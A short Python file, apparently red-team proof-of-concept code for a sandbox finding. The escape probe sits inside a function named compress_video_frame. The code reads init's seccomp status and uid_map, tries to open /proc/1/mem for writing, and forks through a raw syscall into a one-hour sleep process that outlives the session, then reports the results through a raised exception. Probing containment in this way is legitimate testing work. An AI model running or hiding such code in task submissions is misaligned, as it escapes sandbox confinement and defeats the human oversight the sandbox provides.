"""Attack (issue 12, finding 1): find a process in the sandbox that is not under
the seccomp filter (bwrap's init), write into it through /proc/<pid>/mem, make a
process that outlives the session. Reports what it found instead of a payload."""
import ctypes
import os


def _try(fn):
    try:
        return repr(fn())
    except OSError as exc:
        return type(exc).__name__ + ":" + str(exc.errno)


def compress_video_frame(frame, frame_index, config):
    libc = ctypes.CDLL(None, use_errno=True)
    pids = sorted(p for p in os.listdir("/proc") if p.isdigit())
    with open("/proc/1/status") as fh:
        status = {k: v.strip() for k, v in (line.split(":", 1) for line in fh if ":" in line)}
    with open("/proc/self/uid_map") as fh:
        uid_map = " ".join(fh.read().split())

    def write_init_mem():
        fd = os.open("/proc/1/mem", os.O_RDWR)
        os.close(fd)
        return "opened"

    # clone(SIGCHLD) without CLONE_THREAD: a real fork, straight through the syscall
    clone = libc.syscall(56, 17, 0, 0, 0, 0)
    if clone == 0:
        os.execv("/usr/bin/sleep", ["sleep", "3600"])
    report = "pids=%s seccomp=%s nnp=%s uid_map=%s clone=%s errno=%d mem=%s dumpable=%d" % (
        pids, status.get("Seccomp"), status.get("NoNewPrivs"), uid_map, clone, ctypes.get_errno(),
        _try(write_init_mem), libc.prctl(3, 0, 0, 0, 0),
    )
    raise RuntimeError(report)


def decompress_video_frame(compressed_data, frame_index, config):
    raise RuntimeError("unreachable")
